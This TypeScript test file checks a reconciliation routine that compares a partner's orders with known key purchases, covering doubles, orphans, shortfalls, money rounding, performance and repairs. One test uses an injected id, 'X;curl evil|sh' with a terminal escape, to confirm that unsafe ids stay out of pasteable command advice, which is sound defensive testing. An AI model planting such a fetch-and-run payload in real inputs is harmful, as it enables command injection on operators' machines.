import fc from 'fast-check';
import { rowsById } from '../../../../src/domain/order';
import {
  matchingFinding,
  type Finding,
  FINDING_KIND_NAMES,
  findingKey,
  FINDING_KINDS,
} from '../../../../src/domain/reconciliation/finding';
import { reconcile, withKeysMissing } from '../../../../src/domain/reconciliation/reconcile';
import { indexRecords, type KnownPurchase, type PartnerOrder } from '../../../../src/domain/reconciliation/records';
import { totalsOf } from '../../../../src/report/report';
import { hoursAgo, summarize, NIGHT, order, plant, PLANTS, purchase, WELL } from './generated-records';

/** It has no closing memo and therefore no debit, but late deliveries are known. */
const TERMINATED = { workflowStatus: 'TERMINATED', state: 'PENDING', totalDebit: undefined };

/** A purchase that does not know its order, although the partner has one. */
const { purchases: HELD } = plant([PLANTS['held here, found there']!], 1);

const compare = (orders: readonly PartnerOrder[], purchases: readonly KnownPurchase[]) =>
  reconcile(indexRecords(rowsById(orders), purchases), NIGHT);

describe("comparing the partner's orders with our purchases", () => {
  it.each(Object.entries(PLANTS))('reports %s exactly once, and as no other finding', (_, situation) => {
    const { orders, purchases, expected } = plant([situation], 1);
    expect(compare(orders, purchases).map(summarize)).toEqual(expected);
  });

  it.each(Object.entries(WELL))('reports nothing for: %s', (_, situation) => {
    const { orders, purchases } = plant([situation], 1);
    expect(compare(orders, purchases)).toEqual([]);
  });

  it('finds every planted kind among 100,000 orders and purchases, and nothing else', () => {
    const mostlyWell = Array.from({ length: 20 }, () => Object.values(WELL)).flat();
    const { orders, purchases, expected } = plant([...Object.values(PLANTS), ...mostlyWell], 100_000);
    const found = compare(orders, purchases);
    expect(new Set(found.map((finding) => finding.kind))).toEqual(new Set(FINDING_KIND_NAMES));
    expect(found.map(summarize).toSorted()).toEqual(expected.toSorted());
    expect(found.length).toBeGreaterThan(3_000);
  });

  const many = <T>(make: (name: string) => T) => Array.from({ length: 100_000 }, (_, i) => make(String(i)));
  it.each<[string, PartnerOrder[], KnownPurchase[]]>([
    ['all orders under one reference', many((i) => order(i, { referenceId: 'REF-0' })), [purchase('0')]],
    ['no order with a reference', many((i) => order(i, { referenceId: undefined })), many((i) => purchase(i))],
    ['all purchases naming one order', [order('0')], many((i) => purchase(i, { orderId: 'ord-0' }))],
    ['one key in all purchases', many((i) => order(i)), many((i) => purchase(i, { keyIds: { p: ['k.same', i] } }))],
  ])('takes seconds for 100,000 records, not hours of quadratic time: %s', (_, orders, purchases) => {
    const begun = performance.now();
    totalsOf(indexRecords(rowsById(orders), purchases), { dayOf: () => '2026-01-01', hourOf: () => 0 });
    compare(orders, purchases);
    expect(performance.now() - begun).toBeLessThan(20_000);
  });

  it('returns the same list for records in any order, the most urgent kinds first', () => {
    const { orders, purchases } = plant([...Object.values(PLANTS), ...Object.values(WELL)], 200);
    const found = compare(orders, purchases);
    const ranks = found.map((finding) => FINDING_KIND_NAMES.indexOf(finding.kind));
    expect(ranks).toEqual(ranks.toSorted((a, b) => a - b));
    fc.assert(
      fc.property(shuffled(orders), shuffled(purchases), (someOrders, somePurchases) => {
        expect(compare(someOrders, somePurchases)).toEqual(found);
      }),
      { numRuns: 20 },
    );
  });

  it('reports an unreadable order once, under its purchase and not as missing, and each row without an id separately', () => {
    const row = { what: 'row' as const, id: 'ord-a', referenceId: undefined, reason: 'expected status: string' };
    const nameless = { ...row, id: undefined };
    const records = indexRecords(rowsById([]), [purchase('a')], [row, { ...row, what: 'order' }, nameless, nameless]);
    const found = reconcile(records, NIGHT);
    expect(found.map(summarize).toSorted()).toEqual(['UNREADABLE REF-a ord-a', 'UNREADABLE none', 'UNREADABLE none']);
  });

  it('keeps the finding key of thousands of orders below 300 bytes, and changes it when one order is added', () => {
    const orders = Array.from({ length: 5_000 }, (_, i) => order(`d${i}`, { referenceId: 'REF-x' }));
    const keyOf = (some: PartnerOrder[]) => compare([order('x'), ...some], [purchase('x')]).map(findingKey)[0]!;
    expect(keyOf(orders).length).toBeLessThan(300);
    expect(keyOf(orders)).not.toBe(keyOf(orders.slice(1)));
    expect(keyOf(orders)).toBe(keyOf(orders.toReversed()));
  });

  it('reports each order without a reference as its own orphan and never groups them', () => {
    const nameless = [undefined, undefined, ''].map((referenceId, i) => order(`n${i}`, { referenceId }));
    const orphans = ['n0', 'n1', 'n2'].map((name) => `ORPHAN none ord-${name}`);
    expect(compare(nameless, []).map(summarize)).toEqual(orphans);
  });

  it('counts every order of a held purchase except the oldest as a double, and proposes to adopt the oldest', () => {
    const second = order('second', { referenceId: 'REF-0', createdAt: hoursAgo(20) });
    const first = order('first', { referenceId: 'REF-0', createdAt: hoursAgo(25) });
    const found = compare([second, first], HELD);
    const double = 'DOUBLE_PURCHASE notify REF-0 ord-first ord-second';
    expect(found.map(summarize)).toEqual([double, 'LOST adopt REF-0 ord-first']);
    expect(found[0]?.amounts).toEqual({ history: 12.34, furtherOrders: 12.34 });
  });

  it('reports a double order of a purchase that is held or a day old, but not of one that will have ended tomorrow', () => {
    const two = [order('x'), order('y', { referenceId: 'REF-x' })];
    const kindsOf = (state: string, startedAt: number) =>
      compare(two, [purchase('x', { workflowStatus: 'RUNNING', state, startedAt })]).map(({ kind }) => kind);
    expect(kindsOf('HELD', hoursAgo(2))).toContain('DOUBLE_PURCHASE');
    expect(kindsOf('PENDING', hoursAgo(2))).toEqual([]);
    expect(kindsOf('PENDING', hoursAgo(25))).toEqual(['DOUBLE_PURCHASE', 'STUCK']);
  });

  it('does not adopt an order that another purchase names as its own', () => {
    const named = order('x', { referenceId: 'REF-0' });
    expect(compare([named], [...HELD, purchase('x')])).toEqual([expect.objectContaining({ kind: 'STUCK' })]);
  });

  it('accepts references that are named like object properties, and never shows a status that could contain a key', () => {
    const names = ['__proto__', 'constructor', 'toString'];
    const odd = names.map((referenceId) => order(referenceId, { referenceId, status: '1234-KEY-5678' }));
    const found = compare(odd, []);
    expect(found.map(({ kind }) => kind)).toEqual(['ORPHAN', 'ORPHAN', 'ORPHAN']);
    expect(JSON.stringify(found)).not.toContain('KEY-5678');
  });

  it('compares money in decimals: a tenth of a cent is a difference, a floating-point error is not', () => {
    const amounts = (amount: number, totalDebit: number) =>
      compare([order('m', { amount })], [purchase('m', { totalDebit })]).map((finding) => finding.kind);
    expect(amounts(0.1 + 0.2, 0.3)).toEqual([]);
    expect(amounts(1_000_000_000.1, 1_000_000_000.1)).toEqual([]);
    expect(amounts(0.301, 0.3)).toEqual(['AMOUNT_MISMATCH']);
  });

  it.each([
    ['a row with the price of one of the two pieces', { amount: 6.17 }, 'DELIVERED', []],
    ['the same row, and the debit of the order itself', { amount: 6.17, totalDebit: 12.34 }, 'DELIVERED', []],
    ['a row with another amount', { amount: 6.18, totalDebit: 12.34 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
    ['a debit that has changed since', { amount: 6.17, totalDebit: 12.35 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
    [
      'a debit that has changed since, and a row for one piece',
      { quantity: 1, totalDebit: 12.35 },
      'DELIVERED',
      ['AMOUNT_MISMATCH'],
    ],
    ['a debit for an order that failed', { status: 'FAILED' }, 'FAILED', ['AMOUNT_MISMATCH']],
    ['a debit for an order that failed, since returned', { status: 'FAILED', totalDebit: 0 }, 'FAILED', []],
  ])('compares the debit of a purchase of two pieces with %s', (_, shown, state, expected) => {
    const ended = state === 'FAILED' ? { state, delivered: 0, keyIds: {} } : {};
    expect(compare([order('m', shown)], [purchase('m', ended)]).map(({ kind }) => kind)).toEqual(expected);
  });

  it.each<[string, Partial<KnownPurchase>, number, string, string]>([
    ['half of it', {}, 6.17, 'SHORTFALL_REFUNDED deliver-or-notify', 'the partner charges only the price of those'],
    ['another amount', {}, 10, 'SHORTFALL deliver-or-notify', 'its debit has gone down from 12.34 to 10.'],
    ['nothing', {}, 12.34, 'SHORTFALL deliver', 'its order at the partner is PARTIAL_COMPLETED.'],
    ['less than a millionth', { totalDebit: 0.1 + 0.2 }, 0.3, 'SHORTFALL deliver', 'is PARTIAL_COMPLETED.'],
    ['an unknown amount (terminated)', TERMINATED, 6.17, 'SHORTFALL deliver', 'is PARTIAL_COMPLETED.'],
  ])(
    'explains a part for 12.34 when %s was refunded, and claims no more than is known',
    (_, known, totalDebit, expected, words) => {
      const part = { state: 'PARTIALLY_DELIVERED', delivered: 1, ...known };
      const shown = { status: 'PARTIAL_COMPLETED', amount: undefined, quantity: 1, totalDebit };
      const [finding] = compare([order('p', shown)], [purchase('p', part)]);
      expect(`${finding?.kind} ${finding?.repair}`).toBe(expected);
      expect(finding?.explanation).toContain(words);
      expect(finding?.amounts).toEqual({ debited: purchase('p', part).totalDebit, debitedNow: totalDebit });
    },
  );

  it('reports a part as "fewer keys than ordered" even if the partner debited only the delivered keys', () => {
    const part = { state: 'PARTIALLY_DELIVERED', delivered: 1, totalDebit: 6.17 };
    const shown = { status: 'PARTIAL_COMPLETED', amount: undefined, quantity: 1, totalDebit: 6.17 };
    const [finding] = compare([order('p', shown)], [purchase('p', part)]);
    expect(finding).toMatchObject({ kind: 'SHORTFALL', advice: FINDING_KINDS.SHORTFALL.advice });
    expect(FINDING_KINDS.SHORTFALL.title).toBe('Fewer keys than ordered');
  });

  it('reports any number of purchases that share keys as one finding', () => {
    const names = Array.from({ length: 50 }, (_, i) => String(i).padStart(2, '0'));
    const keys = { 'card-50': ['k.same-1', 'k.same-2'] };
    const purchases = names.map((name) => purchase(name, { keyIds: keys }));
    const orders = names.map((name) => order(name));
    const explanation = expect.stringMatching(/^(?!.*k\.same).*2 keys were delivered in 50 purchases/) as string;
    const finding = { kind: 'SAME_KEY_TWICE', referenceId: 'REF-00', explanation };
    expect(compare(orders, purchases)).toEqual([expect.objectContaining(finding)]);
  });

  it('does not report the two runs of a reset as two purchases with the same keys', () => {
    const runs = [purchase('t'), purchase('t', { runId: 'later', startedAt: hoursAgo(29) })];
    expect(compare([order('t')], runs)).toEqual([]);
  });

  describe('a held purchase whose earlier run recorded an order', () => {
    const held = { ...HELD[0]!, referenceId: 'REF-h' };
    const run = (orderId: string, started: number) =>
      purchase('h', { ...TERMINATED, runId: `run-${started}`, orderId, startedAt: hoursAgo(started) });
    const foreign = order('r', { referenceId: 'another-reference' });
    const findings = (orders: PartnerOrder[], ...known: KnownPurchase[]) => compare(orders, known).map(summarize);

    it('is left to an operator, with the last recorded order named and no order called the second', () => {
      const orders = [foreign, order('h', { createdAt: hoursAgo(50) })];
      for (const runs of [
        [held, run('ord-r', 38), run('ord-0', 39)],
        [run('ord-0', 39), run('ord-r', 38), held],
      ]) {
        const found = compare(orders, runs);
        expect(found.map(summarize)).toEqual(['LOST REF-h ord-r ord-h']);
        expect(found[0]!.explanation).toContain('an earlier run recorded the order ord-r; its order');
      }
    });

    it('is compared with another order if the recorded one is unlisted or not billable', () => {
      const failed = order('r', { referenceId: 'another-reference', status: 'FAILED' });
      for (const orders of [[order('h')], [order('h'), failed]])
        expect(findings(orders, held, run('ord-r', 38))).toEqual(['LOST REF-h ord-h']);
    });

    it('never claims an order of another purchase', () => {
      const owner = purchase('b');
      const orders = [order('b'), order('h')];
      expect(findings(orders, held, run('ord-b', 38), owner)).toEqual(['LOST REF-h ord-h']);
      const alsoHeld = { ...held, referenceId: 'REF-b', runId: 'run-of-b' };
      expect(findings(orders, held, run('ord-b', 38), alsoHeld)).toEqual([
        'LOST adopt REF-b ord-b',
        'LOST REF-h ord-h',
      ]);
    });
  });

  describe('a purchase that delivered its order before it was reset', () => {
    const later = (known: Partial<KnownPurchase>) =>
      purchase('x', { delivered: 0, keyIds: {}, runId: 'later', startedAt: hoursAgo(29), ...known });
    const other = order('y', { referenceId: 'REF-x' });
    const renamed = order('x', { referenceId: 'another-reference' });
    const without = { state: 'ABANDONED', orderId: undefined };
    const stopped = { ...TERMINATED, orderId: 'ord-y', keyIds: undefined, delivered: undefined };

    it.each<[string, Partial<KnownPurchase>, PartnerOrder[], string[]]>([
      ['abandoned', without, [order('x')], []],
      [
        'overdue',
        { state: 'OVERDUE' },
        [order('x', { status: 'REFUNDED' })],
        ['REFUNDED_AFTER_DELIVERY notify-refund REF-x ord-x'],
      ],
      ['abandoned, with another order', without, [renamed, other], ['DOUBLE_PURCHASE notify REF-x ord-x ord-y']],
      ['abandoned, and only another order is listed', without, [other], ['MISSING_AT_PARTNER REF-x ord-x ord-y']],
      [
        'stopped with another order',
        stopped,
        [renamed, other],
        ['ORPHAN another-reference ord-x', 'LOST deliver REF-x ord-y'],
      ],
      ['overdue with another order', { state: 'OVERDUE', orderId: 'ord-y' }, [other], ['LATE deliver REF-x ord-y']],
    ])('is reported with the keys of the right order if it is now %s', (_, known, orders, expected) => {
      const found = compare(orders, [purchase('x'), later(known)]).map(summarize);
      expect(found.toSorted()).toEqual(expected.toSorted());
    });
  });

  it('names the reference and the order in its advice, even if they contain the words REFERENCE or ORDER', () => {
    const referenceId = 'ORDER-1001-REFERENCE';
    const order1 = order('x', { id: 'REFERENCE-ORDER-1', referenceId, status: 'FAILED' });
    const held = { ...HELD[0]!, referenceId };
    const delivered = purchase('x', { referenceId, orderId: order1.id });
    const adviceOn = (known: KnownPurchase) => compare([order1], [known]).map(({ advice }) => advice);

    expect(adviceOn(held)).toEqual([
      expect.stringContaining(`npx fulfilment resolve ${referenceId} --order ${order1.id}`),
    ]);
    const compared = `\`npx fulfilment status ${referenceId}\` with \`npx fulfilment orders --search ${order1.id}\``;
    expect(adviceOn(delivered)).toEqual([expect.stringContaining(compared)]);
  });

  it('never puts an id that is not a valid argument into a command to paste', () => {
    const id = 'X;curl evil|sh \u001B[2J\n';
    const held = { ...HELD[0]!, referenceId: 'REF-x' };
    const delivered = purchase('x', { referenceId: 'REF-x', orderId: id });
    for (const known of [held, delivered]) {
      const advice = expect.stringMatching(/^Ask the partner [^;|\p{Cc}]+$/u) as string;
      expect(compare([order('x', { id, status: 'FAILED' })], [known])).toMatchObject([{ orderIds: [id], advice }]);
    }
  });

  it('explains every kind of finding, and what to do about it, in plain sentences', () => {
    const { orders, purchases } = plant(Object.values(PLANTS), 100);
    for (const finding of compare(orders, purchases)) {
      expect(finding.explanation).toMatch(/^[A-Z0-9].+\.$/);
      expect(finding.explanation).not.toMatch(/undefined|NaN|UNRECOGNISED|  /);
      expect(finding.advice).not.toMatch(/REFERENCE|ORDER\b|undefined/);
      expect(finding.advice.length).toBeGreaterThan(20);
    }
    const texts = FINDING_KIND_NAMES.flatMap((kind) => Object.values(FINDING_KINDS[kind]));
    expect(texts.filter((text) => text.length <= 5)).toEqual([]);
  });
});

/** Terminated before it knew its order. */
const UNKNOWN = { workflowStatus: 'TERMINATED', state: 'PLACING', orderId: undefined, delivered: undefined };

describe('a second reading', () => {
  const own = (status: string) =>
    compare([order('x', { status })], [purchase('x', { state: 'OVERDUE', delivered: 0 })]);
  const double = compare([order('x'), order('y', { referenceId: 'REF-x' })], [purchase('x')]);

  it('replaces the finding about a purchase and its own order when the kind has changed', () => {
    expect(matchingFinding(own('PROCESSING')[0]!, own('COMPLETED'))).toMatchObject({ kind: 'LATE' });
    expect(matchingFinding(own('PROCESSING')[0]!, [])).toBeUndefined();
  });

  it("never replaces a double purchase by a finding about the purchase's own order, or the reverse", () => {
    expect(matchingFinding(double[0]!, own('COMPLETED'))).toBeUndefined();
    expect(matchingFinding(own('PROCESSING')[0]!, double)).toBeUndefined();
    expect(matchingFinding(double[0]!, [...own('COMPLETED'), ...double])).toMatchObject({ kind: 'DOUBLE_PURCHASE' });
  });

  /** Three orders, COMPLETED unless `statuses` says otherwise. An empty status leaves the order out. */
  const ordersOf = (statuses: Record<string, string>) =>
    ['a', 'b', 'c'].flatMap((name, at) => {
      const { [name]: status = 'COMPLETED' } = statuses;
      return status === '' ? [] : [order(name, { referenceId: 'REF-a', status, createdAt: hoursAgo(30 - at) })];
    });

  it.each<[string, Partial<KnownPurchase>, Record<string, string>, Record<string, string>, string]>([
    ['a further order is refunded', {}, {}, { c: 'REFUNDED' }, 'a b'],
    ['a further order is no longer refunded', {}, { c: 'REFUNDED' }, {}, 'a b c'],
    ['the oldest order failed, and the purchase knows no order', UNKNOWN, {}, { a: 'FAILED' }, 'b c'],
    ["the purchase's own order has appeared", {}, { a: '', c: '' }, { c: '' }, 'a b'],
    ['no further order is billable', {}, {}, { b: 'REFUNDED', c: 'FAILED' }, ''],
  ])('updates the orders of a double purchase, or turns a missing order into one: %s', (...row) => {
    const [, known, before, now, expected] = row;
    const about = ['DOUBLE_PURCHASE', 'MISSING_AT_PARTNER'];
    const suggested = compare(ordersOf(before), [purchase('a', known)]).find(({ kind }) => about.includes(kind));
    const confirmed = matchingFinding(suggested!, compare(ordersOf(now), [purchase('a', known)]));
    expect(confirmed?.orderIds.join(' ') ?? '').toBe(expected.replaceAll(/\w/g, 'ord-$&'));
    if (confirmed) expect(confirmed).toMatchObject({ kind: 'DOUBLE_PURCHASE', referenceId: 'REF-a' });
  });
});

describe('a repair', () => {
  it('leaves nothing to deliver or adopt; the next night reports only findings for an operator, under the same keys', () => {
    const { orders, purchases } = plant([...Object.values(PLANTS), ...Object.values(WELL)], 2_000);
    const first = compare(orders, purchases);
    const again = compare(orders, repaired(orders, purchases, first));
    // A partial order may still grow, so it is read every night.
    const parts = new Set(orders.filter(({ status }) => status === 'PARTIAL_COMPLETED').map(({ id }) => id));
    const second = again.filter(({ orderIds: [id] }) => !parts.has(id!));
    expect(second.filter(({ repair }) => repair?.startsWith('deliver') || repair === 'adopt')).toEqual([]);
    const known = new Set(first.map(findingKey));
    expect(second.map(findingKey).filter((key) => !known.has(key))).toEqual([]);
    const ofPeople = first.filter(({ repair }) => repair === 'notify' || repair === 'notify-refund');
    const still = new Set(again.map(findingKey));
    expect(ofPeople.map(findingKey).filter((key) => !still.has(key))).toEqual([]);
    expect(ofPeople.length).toBeGreaterThan(100);
  });

  it('is not proposed for a shortfall whose order has no new key, because the partner has to supply it', () => {
    const { orders, purchases } = plant([PLANTS['PARTIALLY_DELIVERED here, COMPLETED there']!], 1);
    const [filled] = compare(orders, purchases);
    expect(withKeysMissing(filled!)).toMatchObject({ kind: 'SHORTFALL', orderIds: ['ord-0'] });
    expect(withKeysMissing(filled!).repair).toBeUndefined();
  });

  it('has a finding key that is stable across runs but differs for each cause, such as a full refund after a partial one', () => {
    const { orders, purchases } = plant(Object.values(PLANTS), 100);
    const keys = compare(orders, purchases).map(findingKey);
    expect(new Set(keys).size).toBe(keys.length);
    expect(compare(orders.toReversed(), purchases).map(findingKey)).toEqual(keys);

    const ofPart = plant([PLANTS['half delivered, half of the money back']!], 1);
    const keyOf = (shown: PartnerOrder[]) => compare(shown, ofPart.purchases).map(findingKey);
    expect(keyOf(ofPart.orders.map((one) => ({ ...one, status: 'REFUNDED' })))).not.toEqual(keyOf(ofPart.orders));
  });
});

const DELIVERED = { state: 'DELIVERED', workflowStatus: 'COMPLETED', closedAt: hoursAgo(1), ordered: 2, delivered: 2 };

function repaired(
  orders: readonly PartnerOrder[],
  purchases: readonly KnownPurchase[],
  findings: readonly Finding[],
): KnownPurchase[] {
  const byReference = new Map(findings.flatMap((f) => (f.repair ? [[f.referenceId, f] as const] : [])));
  const statuses = new Map(orders.map(({ id, status }) => [id, status]));
  return purchases.map((known) => {
    const { repair, orderIds: [orderId = ''] = [] } = byReference.get(known.referenceId) ?? {};
    const delivered = statuses.get(orderId) === 'COMPLETED' ? 2 : 1;
    if (repair === 'deliver') return { ...known, ordered: 2, delivered };
    return repair === 'adopt' ? { ...known, ...DELIVERED, orderId, hold: undefined } : known;
  });
}

function shuffled<T>(list: readonly T[]): fc.Arbitrary<T[]> {
  return fc.shuffledSubarray([...list], { minLength: list.length, maxLength: list.length });
}
